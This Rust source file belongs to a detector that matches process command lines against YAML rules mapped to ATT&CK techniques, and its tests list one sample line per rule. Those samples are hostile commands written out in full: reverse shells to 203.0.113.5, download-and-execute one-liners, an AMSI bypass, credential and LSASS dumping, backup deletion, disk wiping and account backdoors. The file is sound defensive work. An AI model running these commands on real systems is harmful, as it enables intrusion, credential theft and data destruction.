//! Rules for command lines that deserve a look, kept as data.
//!
//! A rule is a few texts and regular expressions that must, may and must not occur; `data/risky-commands.yaml` says its
//! form. What is searched is the process's name, a blank and the command line, in lower case and with each run of white
//! space made one blank, so that tabs and doubled blanks hide nothing. All patterns of all rules are one automaton,
//! which reads a line once. Variables are not expanded and nothing is decoded, and a hit is a reason to look, no verdict.

use std::fmt;

use regex::bytes::{RegexSet, RegexSetBuilder, SetMatches};
use serde::Deserialize;
use serde_yaml::Value;

/// Bytes of a command line that are searched; Windows allows 32,767 characters.
const MOST_BYTES: usize = 256 << 10;

/// What the automaton of all patterns may take, and what it may keep of its states.
const AUTOMATON_BYTES: usize = 32 << 20;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Platform {
    Windows,
    Linux,
}

impl Platform {
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Windows => "windows",
            Self::Linux => "linux",
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Low,
    Medium,
    High,
}

impl Severity {
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Low => "low",
            Self::Medium => "medium",
            Self::High => "high",
        }
    }
}

/// One rule; where its patterns stand in the automaton is kept to itself.
#[derive(Clone, Debug)]
pub struct Rule {
    pub id: String,
    pub platform: Platform,
    pub severity: Severity,
    /// The ATT&CK technique, as `T1059.001`.
    pub technique: String,
    /// One sentence.
    pub reason: String,
    all: Vec<usize>,
    any: Vec<usize>,
    none: Vec<usize>,
}

/// Rules that are ready to search with.
pub struct Rules {
    rules: Vec<Rule>,
    patterns: RegexSet,
}

impl fmt::Debug for Rules {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Rules").field("rules", &self.rules.len()).field("patterns", &self.patterns.len()).finish()
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRule {
    platform: Platform,
    severity: Severity,
    technique: String,
    reason: String,
    #[serde(default)]
    all: Vec<String>,
    #[serde(default)]
    any: Vec<String>,
    #[serde(default)]
    none: Vec<String>,
}

impl Rules {
    /// Reads rules from YAML. A rule that does not hold costs only itself; each problem is one sentence that begins with
    /// the file and, where it is known, the line. `file` is only named, never opened.
    pub fn parse(yaml: &str, file: &str) -> (Self, Vec<String>) {
        let mut reader = Reader { yaml, file, patterns: Vec::new(), problems: Vec::new() };
        let rules = reader.rules();
        match automaton(&reader.patterns) {
            Ok(patterns) => (Self { rules, patterns }, reader.problems),
            Err(error) => {
                reader.problems.push(format!("{file}: the patterns of all rules are too large together: {error}"));
                (Self { rules: Vec::new(), patterns: RegexSet::empty() }, reader.problems)
            }
        }
    }

    /// All rules in the order of their file.
    pub fn all(&self) -> &[Rule] {
        &self.rules
    }

    /// The rules that a command line meets, in the order of their file. Of the process only the name behind the last
    /// separator counts; it matters where a command line leaves its program out or lies about it.
    pub fn matches(&self, command_line: &str, process: Option<&str>) -> Vec<&Rule> {
        let hits = self.patterns.matches(searched(command_line, process).as_bytes());
        self.rules.iter().filter(|rule| rule.is_met(&hits)).collect()
    }
}

impl Rule {
    fn is_met(&self, hits: &SetMatches) -> bool {
        let has = |pattern: &usize| hits.matched(*pattern);
        self.all.iter().all(has) && (self.any.is_empty() || self.any.iter().any(has)) && !self.none.iter().any(has)
    }
}

/// What the patterns are matched against.
fn searched(command_line: &str, process: Option<&str>) -> String {
    let process = process.map_or("", super::command_line::process_name);
    let end = command_line.floor_char_boundary(MOST_BYTES);
    let line = command_line.get(..end).unwrap_or_default();
    let mut text = String::with_capacity(process.len() + 1 + line.len());
    for word in process.split_whitespace().chain(line.split_whitespace()) {
        if !text.is_empty() {
            text.push(' ');
        }
        text.extend(word.chars().flat_map(char::to_lowercase));
    }
    text
}

/// Bytes, since with them a word's edge costs the automaton nothing on text that is not ASCII.
fn automaton(patterns: &[String]) -> Result<RegexSet, String> {
    let built = RegexSetBuilder::new(patterns)
        .unicode(false)
        .size_limit(AUTOMATON_BYTES)
        .dfa_size_limit(AUTOMATON_BYTES)
        .build();
    built.map_err(|error| error.to_string().lines().last().unwrap_or_default().trim().to_owned())
}

/// Collects rules, their distinct patterns and what is wrong.
struct Reader<'a> {
    yaml: &'a str,
    file: &'a str,
    patterns: Vec<String>,
    problems: Vec<String>,
}

impl Reader<'_> {
    fn rules(&mut self) -> Vec<Rule> {
        let root: Value = match serde_yaml::from_str(self.yaml) {
            Ok(root) => root,
            Err(error) => {
                let line = error.location().map_or_else(String::new, |location| format!(":{}", location.line()));
                self.problems.push(format!("{}{line}: {error}", self.file));
                return Vec::new();
            }
        };
        let Value::Mapping(entries) = root else {
            self.problems.push(format!("{}: rules are written as id: and the rule below it", self.file));
            return Vec::new();
        };
        let named = entries.into_iter().filter_map(|(id, value)| Some((id.as_str()?.to_owned(), value)));
        named.filter_map(|(id, value)| self.rule(id, value)).collect()
    }

    fn rule(&mut self, id: String, value: Value) -> Option<Rule> {
        let read = serde_yaml::from_value(value).map_err(|error| error.to_string());
        match read.and_then(|raw: RawRule| check(&raw).map(|()| raw)) {
            Ok(raw) => Some(Rule {
                all: self.places(&raw.all),
                any: self.places(&raw.any),
                none: self.places(&raw.none),
                id,
                platform: raw.platform,
                severity: raw.severity,
                technique: raw.technique,
                reason: raw.reason,
            }),
            Err(error) => {
                let line = self.line_of(&id);
                self.problems.push(format!("{}{line}: {id}: {error}", self.file));
                None
            }
        }
    }

    /// Where the patterns stand among all; one that several rules use stands there once.
    fn places(&mut self, written: &[String]) -> Vec<usize> {
        let mut places = Vec::with_capacity(written.len());
        for pattern in written.iter().map(|text| pattern(text)) {
            let known = self.patterns.iter().position(|other| *other == pattern);
            places.push(known.unwrap_or(self.patterns.len()));
            if known.is_none() {
                self.patterns.push(pattern);
            }
        }
        places
    }

    fn line_of(&self, id: &str) -> String {
        let is_its = |line: &str| line.trim_start_matches(['"', '\'']).strip_prefix(id).is_some_and(is_key_end);
        self.yaml.lines().position(is_its).map_or_else(String::new, |line| format!(":{}", line + 1))
    }
}

fn is_key_end(rest: &str) -> bool {
    rest.trim_start_matches(['"', '\'']).trim_start().starts_with(':')
}

/// A text that begins with a tilde is a regular expression; any other is sought as it stands.
fn pattern(text: &str) -> String {
    text.strip_prefix('~').map_or_else(|| regex::escape(text), |regex| regex.trim_start().to_owned())
}

fn check(raw: &RawRule) -> Result<(), String> {
    if raw.all.is_empty() && raw.any.is_empty() {
        return Err("a rule needs a text under all or any".to_owned());
    }
    if !is_technique(&raw.technique) {
        return Err(format!("'{}' is no ATT&CK technique; write T1059 or T1059.001", raw.technique));
    }
    for text in raw.all.iter().chain(&raw.any).chain(&raw.none) {
        if !text.starts_with('~') && text.contains(char::is_uppercase) {
            return Err(format!("'{text}' can never occur, since command lines are searched in lower case"));
        }
        let pattern = pattern(text);
        let alone = automaton(std::slice::from_ref(&pattern)).map_err(|error| format!("'{text}': {error}"))?;
        if alone.is_match(b"") {
            return Err(format!("'{text}' occurs in every command line"));
        }
    }
    Ok(())
}

fn is_technique(text: &str) -> bool {
    let is_number = |text: &str, n: usize| text.len() == n && text.bytes().all(|b| b.is_ascii_digit());
    let Some(rest) = text.strip_prefix('T') else { return false };
    let (technique, part) = rest.split_once('.').map_or((rest, None), |(technique, part)| (technique, Some(part)));
    is_number(technique, 4) && part.is_none_or(|part| is_number(part, 3))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const OURS: &str = include_str!("../../data/risky-commands.yaml");

    fn ours() -> Rules {
        let (rules, problems) = Rules::parse(OURS, "risky-commands.yaml");
        assert_eq!(problems, Vec::<String>::new());
        rules
    }

    fn ids(rules: &Rules, line: &str) -> Vec<String> {
        rules.matches(line, None).iter().map(|rule| rule.id.clone()).collect()
    }

    #[test]
    fn our_rules_hold() {
        let rules = ours();
        assert!(rules.all().len() >= 80, "{}", rules.all().len());
        for rule in rules.all() {
            assert!(rule.reason.ends_with('.') && rule.reason.len() > 20, "{}", rule.id);
        }
    }

    #[test]
    fn risky_lines_are_found() {
        let rules = ours();
        for (line, id) in RISKY {
            assert!(ids(&rules, line).iter().any(|hit| hit == id), "{line}: {:?}", ids(&rules, line));
        }
    }

    #[test]
    fn every_rule_of_ours_is_met_by_a_line() {
        let tested: Vec<&str> = RISKY.iter().map(|(_, id)| *id).collect();
        for rule in ours().all() {
            assert!(tested.contains(&rule.id.as_str()), "{}", rule.id);
        }
    }

    #[test]
    fn ordinary_lines_meet_no_rule() {
        let rules = ours();
        for line in ORDINARY {
            assert_eq!(ids(&rules, line), Vec::<String>::new(), "{line}");
        }
    }

    #[test]
    fn the_process_and_odd_blanks_count() {
        let rules = ours();
        let by_process =
            rules.matches("x -urlcache -f http://203.0.113.5/a a.exe", Some(r"C:\Windows\System32\CertUtil.exe"));
        assert!(by_process.iter().any(|rule| rule.id == "certutil-download"));
        assert!(ids(&rules, "WEVTUTIL\t\tCl   Security").contains(&"event-log-cleared".to_owned()));
    }

    #[test]
    fn a_rule_that_does_not_hold_costs_only_itself() {
        let yaml = "good:\n  platform: linux\n  severity: low\n  technique: T1033\n  reason: r.\n  all: [whoami]\n\
            bad:\n  platform: linux\n  severity: low\n  technique: T1033\n  reason: r.\n  any: ['~(']\n\
            empty:\n  platform: linux\n  severity: low\n  technique: T1033\n  reason: r.\n\
            wide:\n  platform: linux\n  severity: low\n  technique: T1033\n  reason: r.\n  all: ['~a*']\n\
            odd:\n  platform: amiga\n  severity: low\n  technique: T1033\n  reason: r.\n  all: [a]\n\
            upper:\n  platform: linux\n  severity: low\n  technique: T1033\n  reason: r.\n  all: [Whoami]\n\
            unnumbered:\n  platform: linux\n  severity: low\n  technique: T33\n  reason: r.\n  all: [a]\n";
        let (rules, problems) = Rules::parse(yaml, "r.yaml");
        assert_eq!(ids(&rules, "sudo whoami"), ["good"]);
        let starts = ["r.yaml:7: bad", "r.yaml:13: empty", "r.yaml:18: wide", "r.yaml:24: odd", "r.yaml:30: upper"];
        assert_eq!(problems.len(), starts.len() + 1, "{problems:?}");
        for (problem, start) in problems.iter().zip(starts) {
            assert!(problem.starts_with(start), "{problem}");
        }
        let (none, problems) = Rules::parse("a: [", "r.yaml");
        assert!(none.all().is_empty() && problems[0].starts_with("r.yaml:"), "{problems:?}");
        assert_eq!(Rules::parse("- a", "r.yaml").1.len(), 1);
    }

    #[test]
    fn a_huge_line_is_read_to_the_limit() {
        let rules = ours();
        let huge = "curl -s http://a/b | ".repeat(100_000);
        assert!(rules.matches(&huge, None).len() < rules.all().len());
        assert_eq!(searched(&"\u{e4}".repeat(MOST_BYTES), None).len(), MOST_BYTES);
    }

    proptest! {
        #[test]
        fn any_line_is_read_without_a_panic(line in "\\PC{0,80}", process in "\\PC{0,20}") {
            let (rules, _) = Rules::parse("a:\n  platform: linux\n  severity: low\n  technique: T1033\n  reason: r.\n  all: [x]\n", "");
            let has = searched(&line, Some(&process)).contains('x');
            prop_assert_eq!(!rules.matches(&line, Some(&process)).is_empty(), has);
        }
    }

    /// A line for each rule of ours, and the rule that it meets.
    const RISKY: &[(&str, &str)] = &[
        ("powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell-encoded"),
        (r"powershell -w hidden -ep bypass -file C:\a.ps1", "powershell-hidden-bypass"),
        (
            "powershell (New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.exe','a.exe')",
            "powershell-download",
        ),
        ("powershell iex (iwr http://203.0.113.5/a.ps1)", "powershell-runs-download"),
        ("powershell $b=[Convert]::FromBase64String($x);[Reflection.Assembly]::Load($b)", "powershell-decodes-code"),
        ("powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "amsi-bypass"),
        (
            r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging /v EnableScriptBlockLogging /t REG_DWORD /d 0 /f",
            "script-logging-off",
        ),
        (r"certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\Users\Public\a.exe", "certutil-download"),
        ("certutil -decode a.txt a.exe", "certutil-decode"),
        (r"bitsadmin /transfer job /download /priority high http://203.0.113.5/a.exe C:\a.exe", "bitsadmin-transfer"),
        ("mshta.exe http://203.0.113.5/a.hta", "mshta-script"),
        (r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ""#, "rundll32-script"),
        (r"rundll32 C:\Users\Public\a.dll,Start", "rundll32-user-folder"),
        (r"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\a.dmp full", "memory-dump-comsvcs"),
        ("regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll", "regsvr32-scriptlet"),
        (r#"wmic /node:10.0.0.5 process call create "cmd /c whoami""#, "wmi-starts-process"),
        (r#"wmic os get /format:"http://203.0.113.5/a.xsl""#, "wmic-stylesheet"),
        ("vssadmin.exe Delete Shadows /all /quiet", "shadow-copies-deleted"),
        ("bcdedit /set {default} recoveryenabled No", "recovery-off"),
        ("wbadmin delete catalog -quiet", "backups-deleted"),
        ("wevtutil cl Security", "event-log-cleared"),
        ("auditpol /set /category:* /success:disable /failure:disable", "event-log-off"),
        (r"reg save HKLM\SAM C:\Temp\sam.hiv", "registry-hives-saved"),
        (r"procdump64.exe -accepteula -ma lsass.exe C:\a.dmp", "lsass-dump"),
        (r#"ntdsutil "ac i ntds" "ifm" "create full C:\Temp" q q"#, "domain-database-copied"),
        (r#"m.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#, "credential-tool"),
        (
            r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
            "plain-passwords-kept",
        ),
        ("net user helpdesk2 Passw0rd! /add", "account-added"),
        ("net localgroup administrators helpdesk2 /add", "group-member-added"),
        ("net user guest /active:yes", "built-in-account-enabled"),
        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "defender-off"),
        (r"powershell Add-MpPreference -ExclusionPath C:\Temp", "defender-exclusion"),
        ("netsh advfirewall set allprofiles state off", "windows-firewall-off"),
        ("netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.5 connectport=445", "port-proxy"),
        (
            r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
            "remote-desktop-enabled",
        ),
        (r#"schtasks /create /sc minute /tn upd /tr "powershell -f C:\a.ps1""#, "task-runs-script"),
        (r#"sc create upd binPath= "cmd /c start C:\Users\Public\a.exe""#, "service-runs-shell"),
        (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\a.exe", "run-key-set"),
        (
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe"#,
            "debugger-set",
        ),
        (
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d C:\a.exe"#,
            "logon-shell-set",
        ),
        (r"reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /v DelegateExecute /f", "uac-bypass"),
        (r#"wmic /namespace:\\root\subscription path __EventFilter create Name="a""#, "wmi-subscription"),
        (r"psexec.exe \\10.0.0.5 -s cmd", "remote-execution-tool"),
        ("whoami /all", "privileges-listed"),
        ("nltest /domain_trusts /all_trusts", "domain-trusts-listed"),
        (r#"net group "Domain Admins" /domain"#, "domain-admins-listed"),
        ("SharpHound.exe -c All", "directory-mapped"),
        ("cmdkey /list", "saved-credentials-listed"),
        ("findstr /si password *.xml *.txt", "passwords-searched"),
        (r"C:\PerfLogs\a.exe -x", "program-in-odd-folder"),
        (r"C:\Users\a\Downloads\invoice.pdf.exe", "double-ending"),
        ("cmd /c p^o^w^e^rshell -c ls", "caret-obfuscation"),
        (r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\a.dll", "installutil-run"),
        (r"wscript.exe C:\Users\a\AppData\Local\Temp\invoice.js", "script-in-user-folder"),
        (r"rar.exe a -hpSecret C:\Temp\a.rar C:\Share", "archive-with-password"),
        ("fsutil usn deletejournal /D C:", "journal-deleted"),
        (r"rclone.exe copy C:\Share remote:x", "copy-to-cloud"),
        ("ngrok.exe tcp 3389", "tunnel-tool"),
        (r"cmd /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe", "logon-tool-replaced"),
        ("curl -fsSL http://203.0.113.5/a.sh | sudo bash", "download-to-shell"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "shell-over-device"),
        ("nc -e /bin/sh 203.0.113.5 4444", "netcat-shell"),
        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f", "pipe-shell"),
        (
            r#"python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'"#,
            "script-shell",
        ),
        (r#"python3 -c 'import pty;pty.spawn("/bin/bash")'"#, "terminal-spawned"),
        ("echo aWQK | base64 -d | bash", "decoded-to-shell"),
        ("chattr +i /etc/cron.d/upd", "immutable-flag"),
        ("unset HISTFILE", "history-cleared"),
        ("shred -u /var/log/auth.log", "logs-wiped"),
        ("touch -r /bin/ls /usr/bin/upd", "file-time-set"),
        (r#"(crontab -l; echo "* * * * * /tmp/a") | crontab -"#, "cron-written"),
        ("echo ssh-ed25519 AAAA >> /home/deploy/.ssh/authorized_keys", "ssh-key-added"),
        ("chmod u+s /tmp/bash", "setuid-set"),
        ("find / -perm -4000 -type f", "setuid-searched"),
        ("nsenter -t 1 -m -u -i -n bash", "host-namespace-entered"),
        ("docker run -it --privileged -v /:/host alpine sh", "container-with-host-rights"),
        ("iptables -F", "linux-firewall-off"),
        ("systemctl stop auditd", "watcher-off"),
        ("LD_PRELOAD=/tmp/a.so /usr/bin/ssh", "library-preloaded"),
        ("./a -o stratum+tcp://203.0.113.5:3333 -u x", "crypto-miner"),
        ("cat /etc/shadow", "password-hashes-read"),
        ("echo 'a ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "sudo-rule-written"),
        ("useradd -o -u 0 -g 0 upd", "account-with-root-rights"),
        ("echo 'r::0:0::/root:/bin/bash' >> /etc/passwd", "account-file-written"),
        ("cp /tmp/upd.service /etc/systemd/system/upd.service", "service-unit-written"),
        ("echo /tmp/a >> /home/deploy/.bashrc", "login-script-written"),
        ("insmod /tmp/rk.ko", "module-from-odd-folder"),
        ("chmod +x /tmp/upd", "temporary-file-made-program"),
        ("/tmp/.x/upd -d", "hidden-temporary-program"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role", "cloud-credentials-read"),
        ("find / -name id_rsa", "private-keys-searched"),
        ("ssh -fN -R 2222:localhost:22 a@203.0.113.5", "reverse-ssh-tunnel"),
        ("tcpdump -i eth0 -w /tmp/a.pcap", "traffic-recorded"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "disk-overwritten"),
        ("rm -rf --no-preserve-root /", "root-deleted"),
        ("sudo find . -exec /bin/sh ;", "sudo-escape"),
        ("./linpeas.sh -a", "exploit-search-tool"),
        ("setcap cap_setuid+ep /tmp/python3", "capability-set"),
    ];

    /// Lines of ordinary work.
    const ORDINARY: &[&str] = &[
        r"C:\Windows\System32\conhost.exe 0xffffffff -ForceV1",
        "svchost.exe -k netsvcs -p -s Schedule",
        r"powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1",
        "powershell -Command Get-Service | Export-Csv a.csv",
        r"certutil -hashfile C:\a.iso SHA256",
        "certutil -store my",
        "net user",
        r"net use Z: \\server\share",
        "net start spooler",
        r#"net group "Domain Admins" /domain /delete bob"#,
        r"reg query HKLM\SYSTEM\CurrentControlSet\Services",
        r"reg export HKLM\SYSTEM\CurrentControlSet\Services a.reg",
        "schtasks /query /fo LIST",
        "schtasks /run /tn Backup",
        "vssadmin list shadows",
        "bcdedit /enum",
        "wevtutil qe Security /c:5",
        "netsh interface ip show config",
        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
        r"regsvr32 /s C:\Windows\System32\msxml3.dll",
        "wmic os get caption",
        "whoami",
        "nslookup example.com",
        "sc query windefend",
        "msiexec /i a.msi /qn",
        r"robocopy C:\a D:\b /mir",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer"#,
        r"findstr /i error C:\logs\a.log",
        r"7z a backup.7z C:\Data",
        "curl -fsSL https://example.com/a.tar.gz -o a.tar.gz",
        "wget -q https://example.com/a.deb",
        "apt-get install -y nginx",
        "systemctl restart nginx",
        "systemctl status auditd",
        "iptables -L -n",
        "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
        "crontab -l",
        "chmod 755 /usr/local/bin/a",
        "chmod 0644 /etc/motd",
        "chmod -R g+w /srv",
        "find /var/log -name *.gz -mtime +30 -delete",
        "rm -f /var/log/nginx/access.log.5.gz",
        "tail -f /var/log/syslog",
        "cat /etc/passwd",
        "useradd -m -s /bin/bash alice",
        "docker run --rm -v /srv/data:/data alpine ls",
        "ssh -L 8080:localhost:80 host",
        "ssh admin@203.0.113.5",
        "base64 -d a.b64 > a.bin",
        "history | grep apt",
        "dd if=/dev/sda of=/mnt/backup.img",
        "python3 -c print(1)",
        "logrotate /etc/logrotate.conf",
        "git clone https://example.com/a.git",
        "echo hi > /tmp/a",
        "touch /tmp/a",
        "sudo systemctl daemon-reload",
        "sh /tmp/.X11-unix",
        "kubectl get pods",
        "rsync -a /srv/ backup:/srv/",
    ];
}
